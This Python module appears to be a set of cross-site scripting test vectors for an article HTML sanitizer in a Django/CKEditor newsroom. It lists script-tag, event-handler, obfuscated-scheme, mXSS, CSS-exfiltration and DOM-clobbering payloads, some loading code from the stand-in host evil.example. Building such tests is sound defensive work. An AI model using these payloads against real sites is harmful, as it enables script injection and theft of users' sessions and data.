"""Attempts to run a script, reach another server or take a page over, from inside an article.

Each calls `alert(1)` or names `evil.example`, so that a browser can tell whether it got anywhere.
"""

from itertools import product

OURS = "/media/anh/00112233445566778899aabbccddeeff-960.jpg"

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\t>",
    "<script/src=//evil.example/x.js></script>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script><!--<script></script>alert(1)--></script>",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    "<scrİpt>alert(1)</scrİpt>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<xml><script>alert(1)</script></xml>",
    "<p><script>alert(1)</script",
    "<script \x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]

HANDLERS = [
    "<p onclick=alert(1)>x",
    "<p onmouseover='alert(1)'>x</p>",
    '<p ONPOINTERENTER="alert(1)">x</p>',
    "<strong/onfocus=alert(1)/autofocus/tabindex=0>x</strong>",
    f"<img src={OURS} onerror=alert(1)>",
    f"<img src={OURS} onload=alert(1)>",
    f"<img/src={OURS}/onload=alert(1)>",
    f'<img src="{OURS}"onload="alert(1)">',
    f'<img src="{OURS}" alt="x"onload=alert(1) ">',
    f"<img src='{OURS}' alt='`' onload='alert(1)'>",
    f'<img src={OURS} alt="&quot; onload=alert(1) x=&quot;">',
    f"<img src={OURS} alt='\" onload=alert(1) x=\"'>",
    f"<img src={OURS} alt='></p><img src=x onerror=alert(1)>'>",
    f"<img src={OURS} width='1\" onload=\"alert(1)'>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href='#' on\nclick=alert(1)>x</a>",
    "<a href='#' \x0bonclick=alert(1)>x</a>",
    "<a href='#'\xa0onclick=alert(1)>x</a>",
    "<table onscroll=alert(1)><tr onanimationend=alert(1)><td ontoggle=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>x",
    "<html onmouseover=alert(1)>x",
    "<frameset onload=alert(1)><frame>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y</p>",
    "<video autoplay onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    "<custom-element onconnected=alert(1) onclick=alert(1)>x</custom-element>",
    "<p title='x'onclick='alert(1)'y>x</p>",
    "<p =onclick=alert(1)>x</p>",
    "<p a=b=c onclick=alert(1)>x</p>",
    "<p / onclick=alert(1) / >x</p>",
    "</p onclick=alert(1)>x",
    "<br onclick=alert(1)><hr onclick=alert(1)>",
]

# Every way to write a scheme that runs a script, in every attribute that takes an address.
_SCRIPT_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript\n:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript&#0000058alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "&#x6Aavascript:alert(1)",
    "java&Tab;script&NewLine;:alert(1)",
    "java&#x09;script:alert(1)",
    "java\u200bscript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\xa0javascript:alert(1)",
    "java\xadscript:alert(1)",
    "javascript://vtv.vn/%0aalert(1)",
    "javascript:/*x*/alert(1)",
    "javascript&amp;colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E",
    "data&colon;image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "filesystem:http://evil.example/x",
    "view-source:javascript:alert(1)",
    "jar:https://evil.example!/x",
    "feed:javascript:alert(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "ftp://evil.example/x",
    "ws://evil.example",
    "intent://evil.example#Intent;end",
    "cid:x",
]
_PLACES = [
    '<a href="{}">x</a>',
    '<a target=_blank href="{}">x</a>',
    '<img src="{}">',
]
ADDRESSES = [place.format(address) for place, address in product(_PLACES, _SCRIPT_ADDRESSES)] + [
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=java&#115;cript:alert(1)>x</a>",
    "<a href='https://x.vn' href='javascript:alert(1)'>x</a>",
    "<a href='javascript:alert(1)' href='https://x.vn'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a HREF='javascript:alert(1)'>x</a>",
    "<a href='https://x.vn' ping='https://evil.example/'>x</a>",
    "<a href='/x' download='evil.exe'>x</a>",
    "<a href='https://x.vn' target='_top' rel='opener'>x</a>",
    "<a href='https://x.vn' rel='opener external' target='_BLANK'>x</a>",
    "<area href='javascript:alert(1)'>",
    "<base href='//evil.example/'><a href='x'>x</a>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<form id=f></form><button form=f formaction='javascript:alert(1)'>x</button>",
    "<input type=image src=x formaction='javascript:alert(1)'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src='https://evil.example'>",
    "<embed src='javascript:alert(1)'>",
    "<object data='javascript:alert(1)'></object>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<applet code=evil.example></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=preload as=script href='//evil.example/x.js'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<table background='javascript:alert(1)'><td background='//evil.example/x'>x",
    "<q cite='javascript:alert(1)'>x</q><del cite='javascript:alert(1)'>y</del>",
    "<video poster='javascript:alert(1)' src='//evil.example/x.mp4'></video>",
    "<body background='javascript:alert(1)'>x",
    "<portal src='https://evil.example'>",
    "<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
]

PICTURES = [
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    r"<img src=\\evil.example\x.png>",
    r"<img src=/\evil.example/x.png>",
    f"<img src=//evil.example{OURS}>",
    f"<img src=https://evil.example{OURS}>",
    f"<img src={OURS}?x=1>",
    f"<img src={OURS}#x>",
    f"<img src='{OURS}\n'>",
    f"<img src=/media/anh/../..{OURS}>",
    f"<img src=.{OURS}>",
    "<img src=/media/anh/%2e%2e/admin/>",
    "<img src=/tai-khoan/dang-xuat/>",
    "<img src=/media/anh/00112233445566778899aabbccddeeff-960.svg>",
    "<img src=/media/anh/00112233445566778899AABBCCDDEEFF-960.jpg>",
    "<img src=/media/anh/00112233445566778899aabbccddeeff-٩٦٠.jpg>",
    "<img src=/media/anh/00112233445566778899aabbccddeef-960.jpg>",
    f"<img src={OURS} srcset='https://evil.example/x.png 1x'>",
    f"<img src={OURS} srcset='javascript:alert(1) 1x' sizes=100vw>",
    "<img srcset='//evil.example/x.png 2x'>",
    "<picture><source srcset='//evil.example/x.webp'><img src=x onerror=alert(1)></picture>",
    "<image src=x onerror=alert(1)>",
    "<image href='//evil.example/x.png'>",
    f"<img src={OURS} usemap=#m><map name=m><area href='javascript:alert(1)'></map>",
    f"<img src={OURS} lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
    f"<img src={OURS} longdesc='javascript:alert(1)' crossorigin referrerpolicy=unsafe-url>",
    f"<img src={OURS} role='presentation button' is=x-y>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<figure class='image'><img src=x onerror=alert(1)><figcaption onclick=alert(1)>x",
]

# Read once, harmless; written out and read again, something else (mXSS).
MUTATIONS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onload to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><desc><table><img src=x onerror=alert(1)></table></desc></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<math><mi><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td><form><table><img src=x onerror=alert(1)>",
    "<table><a><table><a href='javascript:alert(1)'>x",
    "<table><caption><img src=x onerror=alert(1)></table>",
    "<a><table><a onclick=alert(1)>x</a></table></a>",
    "<b><p><b onclick=alert(1)></p></b>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![if !vml]><img src=x onerror=alert(1)><![endif]>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!x><img src=x onerror=alert(1)>",
    "<? ><img src=x onerror=alert(1)>",
    "</ ><img src=x onerror=alert(1)>",
    "<%<!--'%><script>alert(1);</script -->",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<p>\u0338<img src=x onerror=alert(1)>",
    "<img\u0338 src=x onerror=alert(1)>",
    "<p title='\ud800'><img src=x onerror=alert(1)></p>",
    "<p><img alt='<x' title='/x'src=x onerror=alert(1)></p>",
    "<a href='<img src=x onerror=alert(1)>'>x</a>",
    "<a href='/?x=\"><img src=x onerror=alert(1)>'>x</a>",
    "<p class='\"><img src=x onerror=alert(1)>'>x</p>",
]

STYLES = [
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>@\\69mport '//evil.example/x.css'",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999'>x</p>",
    "<p style='text-align:center;background:url(//evil.example/x)'>x</p>",
    "<p style='text-align:center\"onclick=\"alert(1)'>x</p>",
    "<p style='font-weight:bold;}*{x:y'>x</p>",
    "<span style='font-weight:bold' onclick=alert(1)>x</span>",
    "<p class='admin-toolbar is-open'>x</p>",
    "<p class='text-center module x'>x</p>",
    "<font face='x' color='expression(alert(1))'>x</font>",
    "<div class='align-center modal' style='display:block'>x</div>",
    "<p lang='x\" onclick=\"alert(1)'>x</p>",
]

# Elements by which a page's own scripts and forms would find something else than they look for.
TAKEOVERS = [
    "<p id=session-prompt>x</p>",
    "<a id=CKEDITOR href=x>x</a>",
    "<a id=location name=protocol href='//evil.example'>x</a>",
    "<img name=cookie>",
    f"<img name=getElementById src={OURS}>",
    "<form name=body><input name=innerHTML></form>",
    "<form id=logout action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<input form=article-form name=state value=published>",
    "<button form=article-form name=approve>x</button>",
    "<p data-action=publish data-url=//evil.example>x</p>",
    "<p contenteditable autofocus accesskey=x tabindex=1 draggable=true>x</p>",
    "<p slot=x part=x exportparts=x nonce=x is=x-y>x</p>",
    "<p itemscope itemtype='//evil.example' itemid=x>x</p>",
    "<p aria-label='x' role=alertdialog>x</p>",
    "<p popover id=x>y</p><a href=# popovertarget=x>x</a>",
    "<p dir=rtl>\u202ex</p>",
    "<dialog open><p>x</p></dialog>",
    "<ol type='1\" onclick=\"alert(1)' start='1e9' reversed='x'><li value=9>x",
    "<td colspan=0 rowspan=99999999 headers=x>x</td>",
    "<table><td colspan='1\" onclick=\"alert(1)'>x",
    "<th scope='row\" onclick=\"alert(1)' abbr=x>x",
]

# The same schemes where only a browser that follows elements we have no use for would read them.
_HOLDERS = [
    "<area href='{}'>",
    "<base href='{}'>",
    "<link rel=stylesheet href='{}'>",
    "<link rel=icon href='{}'>",
    "<form action='{}'><input type=submit></form>",
    "<button formaction='{}'>x</button>",
    "<iframe src='{}'></iframe>",
    "<embed src='{}'>",
    "<object data='{}'></object>",
    "<object><param name=movie value='{}'></object>",
    "<video src='{}' poster='{}'></video>",
    "<audio src='{}'></audio>",
    "<track src='{}'>",
    "<input type=image src='{}'>",
    "<table background='{}'></table>",
    "<blockquote cite='{}'>x</blockquote>",
    "<body background='{}'>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='{}' /><text y=9>x</text></a></svg>",
    "<svg><image href='{}' /></svg>",
    "<svg><feImage href='{}' /></svg>",
    "<math><mrow href='{}'>x</mrow></math>",
    "<math xlink:href='{}'><mi>x</mi></math>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<meta property=og:image content='{}'>",
]
_FEW_ADDRESSES = [
    "javascript:alert(1)",
    "java&Tab;scr&NewLine;ipt&colon;alert(1)",
    "&#x6A;&#97;vascript:alert(1)",
    "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
    "//evil.example/x",
]
HOLDERS = [place.replace("{}", address) for place, address in product(_HOLDERS, _FEW_ADDRESSES)]

DATA = [
    place.format(address)
    for place, address in product(
        ["<img src='{}'>", "<a href='{}'>x</a>", "<object data='{}'></object>"],
        [
            "data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>",
            "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
            "data:application/xhtml+xml,<script xmlns=%22http://www.w3.org/1999/xhtml%22>alert(1)</script>",
            "data:text/xml,<?xml-stylesheet href=%22//evil.example/x.xsl%22?><x/>",
            "data:text/javascript,alert(1)",
            "data:,<script>alert(1)</script>",
            "data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "\tdata:text/html,<script>alert(1)</script>",
            "data\n:text/html,<script>alert(1)</script>",
        ],
    )
]

SRCSETS = [
    place.format(candidates)
    for place, candidates in product(
        [
            "<img srcset='{}'>",
            f"<img src={OURS} srcset='{{}}' sizes=100vw>",
            "<picture><source srcset='{}' type=image/webp></picture>",
            "<link rel=preload as=image imagesrcset='{}'>",
        ],
        [
            "//evil.example/a.png 1x, //evil.example/b.png 2x",
            "https://evil.example/a.png 100w",
            "//evil.example/a,b.png",
            f"{OURS} 1x,\n//evil.example/a.png 3x",
            "data:image/svg+xml,<svg/onload=alert(1)> 1x",
        ],
    )
]

# Every kind of content that a parser leaves early, or enters another language in.
_BREAKOUT = "<img src=x onerror=alert(1)>"
MUTATIONS += [
    outside.replace("{}", inside)
    for outside, inside in product(
        [
            "<svg>{}</svg>",
            "<math>{}</math>",
            "<svg><foreignObject>{}</foreignObject></svg>",
            "<math><mtext>{}</mtext></math>",
            "<template>{}</template>",
            "<noscript>{}</noscript>",
            "<select>{}</select>",
            "<table>{}</table>",
        ],
        [
            f"<style><!--</style>{_BREAKOUT}--></style>",
            f"<title>&lt;/title>{_BREAKOUT}</title>",
            f"<p title='</style></title></noscript></template>{_BREAKOUT}'>x</p>",
            f"<![CDATA[</p>]]>{_BREAKOUT}",
            f"<textarea></textarea >{_BREAKOUT}",
            "<script>alert(1)</script>",
        ],
    )
] + [
    f"<math><mtext><table><mglyph><style><math>{_BREAKOUT}</style></math>",
    f"<svg></p><style><p id='</style>{_BREAKOUT}'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{_BREAKOUT}'>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=alert(1)>'>",
    f"<math><annotation-xml encoding=text/html><svg><style>{_BREAKOUT}</style></svg>",
    f"<noscript><!--</noscript>{_BREAKOUT}-->",
    f"<template><noscript></template>{_BREAKOUT}</noscript>",
    f"<p>{'<b>' * 520}<svg><style>{_BREAKOUT}",
    f"<div>{'<div>' * 510}<math><mi><style><!--</style>{_BREAKOUT}",
    f"<option><style></option></select>{_BREAKOUT}</style>",
    f"<xmp></xmp\x0c>{_BREAKOUT}",
    f"<svg><xss><desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;&lt;s&gt;</noscript>{_BREAKOUT}",
    f"<b <script>{_BREAKOUT}</script>0",
    f"<!doctype html><svg/><![CDATA[x]]>{_BREAKOUT}",
    f"<?php echo ?>{_BREAKOUT}",
    f"<frameset><noframes>{_BREAKOUT}</noframes></frameset>",
]

STYLES += [
    outside.replace("{}", declaration)
    for outside, declaration in product(
        ["<p style='{}'>x</p>", "<td style='{}'>x</td>", "<style>p{{}}</style>"],
        [
            "background-image:url(https://evil.example/x)",
            "background:u\\72l(//evil.example/x)",
            "list-style:url(//evil.example/x)",
            "border-image:url(//evil.example/x)",
            "cursor:url(//evil.example/x),auto",
            "content:url(//evil.example/x)",
            "mask:url(//evil.example/x)",
            "filter:url(//evil.example/x#y)",
            "background:image-set(&quot;//evil.example/x&quot; 1x)",
            "--x:url(//evil.example/x);background:var(--x)",
            "text-align:center;/*;*/background:url(//evil.example/x)",
        ],
    )
] + [
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}p{font-family:x}</style>",
    "<style>@namespace url(//evil.example/x);</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<style/onload=alert(1)>",
    "<style onerror=alert(1)>@import 'x'</style>",
    "<link rel=stylesheet href='data:text/css,*{background:url(//evil.example/x)}'>",
]

# What our scripts, Django's and the editor's ask `document`, `window` and forms for.
_WANTED = [
    "CKEDITOR",
    "django",
    "jQuery",
    "cookie",
    "forms",
    "querySelector",
    "createElement",
    "documentElement",
    "currentScript",
    "csrfmiddlewaretoken",
    "id_body",
    "edition_form",
    "comments",
    "session-warning",
    "submit",
    "action",
    "__proto__",
]
TAKEOVERS += [
    place.replace("{}", name)
    for name, place in product(
        _WANTED,
        [
            "<a id='{}' href='https://evil.example/'>x</a>",
            f"<img name='{{}}' id='{{}}' src='{OURS}'>",
            "<form name='{}'><input name='{}'></form>",
        ],
    )
]

# Fields of plain text show these letter by letter. Each fits into the shortest field of the newsroom.
PLAIN = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "javascript:alert(1)",
    "<mark><img src=x onerror=alert(1)></mark>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} `${alert(1)}`",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "\u2028<iframe src=//evil.example>",
    "<<img src=x onerror=alert(1)//",
    "<form action=//evil.example><button>x",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
]

# Some products of two lists are written out above as well.
VECTORS = list(
    dict.fromkeys(
        SCRIPTS
        + HANDLERS
        + ADDRESSES
        + HOLDERS
        + DATA
        + PICTURES
        + SRCSETS
        + MUTATIONS
        + STYLES
        + TAKEOVERS
    )
)
